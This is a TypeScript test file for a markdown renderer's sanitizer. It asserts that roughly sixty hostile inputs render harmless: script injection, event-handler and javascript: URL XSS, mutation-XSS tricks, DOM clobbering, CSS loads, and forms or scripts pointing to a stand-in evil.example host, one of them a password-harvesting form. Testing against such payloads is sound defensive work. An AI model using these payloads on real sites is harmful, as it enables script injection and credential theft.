import type { Root } from 'hast'
import rehypeRaw from 'rehype-raw'
import { unified } from 'unified'
import { visit } from 'unist-util-visit'
import { describe, expect, it } from 'vitest'
import { contentHosts } from './hosts.ts'
import { markdownSchema } from './sanitize-schema.ts'
import { renderMarkdown } from './render-markdown.ts'

const hosts = contentHosts('https://quarry.example')

/** Texts that have broken other sites; each must come out harmless. */
const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://imgur.com/a.png" onload="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="`><script>alert(1)</script>">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://imgur.com/a.png)',
  '<area href="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"><iframe src="javascript:alert(1)"></iframe></iframe>',
  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="alert(1)" srcdoc="x"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name="password" type="password"><button>go</button></form>',
  '<input type="image" src="https://evil.example" onfocus="alert(1)" autofocus>',
  '<base href="https://evil.example/"><link rel="stylesheet" href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<style>*{background:url(//evil.example)}</style>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  '<p style="text-align:center;text-align:expression(alert(1))">x</p>',
  '<img style="float:left/*;*/position:fixed" src="/data/a.png">',
  '<form id="location"><input id="cookie" name="body"></form><h1 id="getElementById">x</h1><a name="createElement">y</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!-- <img src=x onerror=alert(1)> --><!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<code class="hljs-x evil" onclick="alert(1)">x</code><span class="fixed inset-0">x</span>',
  '```html onclick="alert(1)\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>',
  '<video poster="javascript:alert(1)" onloadstart=alert(1)><source src="javascript:alert(1)" onerror=alert(1)></video>',
  '<img srcset="javascript:alert(1) 2x, https://evil.example/a.png 3x" src="/data/a.png">',
  '<div aria-label="x" role="alert" data-x="y" contenteditable is="x-y" slot="z">x</div>',
  '<x-custom onclick=alert(1)>x</x-custom>',
  '<table><tr><td onclick=alert(1) background="//evil.example">x</td></tr></table>',
  '[a]: javascript:alert(1)\n\n[a]',
  'x[^a"onclick="alert(1)]\n\n[^a"onclick="alert(1)]: y',
  '\u0000<script\u0000>alert(1)</script>',
  '<a href="https://evil.example\\@quarry.example/">x</a>',
]

const allowedTags = new Set(markdownSchema.tagNames)
const allowedProtocol = /^(https?:|mailto:|\/(?!\/)|\/\/|#|data:image\/|[^:]*$)/i
const addresses = ['href', 'src', 'poster', 'cite'] as const

/** The tree a browser would build from the text. */
function parse(html: string): Root {
  const raw: unknown = { type: 'root', children: [{ type: 'raw', value: html }] }
  return unified()
    .use(rehypeRaw)
    .runSync(raw as Root)
}

function dangersIn(html: string): string[] {
  const dangers: string[] = []
  visit(parse(html), (node) => {
    if (node.type === 'comment') dangers.push('comment')
    if (node.type !== 'element') return
    if (!allowedTags.has(node.tagName)) dangers.push(`<${node.tagName}>`)
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on/i.test(name) || name === 'srcDoc' || name === 'srcdoc') dangers.push(`${node.tagName}.${name}`)
      if (name === 'id' && !String(value).startsWith('md-')) dangers.push(`id ${String(value)}`)
      if (
        name === 'style' &&
        !/^((image-rendering|text-align|float): [a-z]+|--[wh]: \d+(px|%))(; |$)/.test(String(value))
      )
        dangers.push(`style ${String(value)}`)
    }
    for (const name of addresses) {
      const value = node.properties[name]?.toString()
      if (value !== undefined && !allowedProtocol.test(value)) dangers.push(`${name}=${value}`)
    }
  })
  return dangers
}

describe('hostile markdown', () => {
  it.each(hostile)('renders %j harmless', async (text) => {
    expect(dangersIn(await renderMarkdown(text, { hosts }))).toEqual([])
  })

  it.each(hostile)('stays harmless when its own output %j is rendered again', async (text) => {
    const once = await renderMarkdown(text, { hosts })
    expect(dangersIn(await renderMarkdown(once, { hosts }))).toEqual([])
  })

  it('copes with a table of 20 000 cells and with very deep nesting', async () => {
    const row = `|${' x |'.repeat(20)}`
    const table = [row, `|${'-|'.repeat(20)}`, ...Array.from({ length: 1000 }, () => row)].join('\n')
    expect((await renderMarkdown(table, { hosts })).match(/<td>/g)).toHaveLength(20_000)
    for (const nested of ['> '.repeat(2_000), '<div>'.repeat(10_000), '*'.repeat(20_000), '['.repeat(20_000)])
      expect(dangersIn(await renderMarkdown(`${nested}<script>alert(1)</script>`, { hosts }))).toEqual([])
  }, 60_000)
})
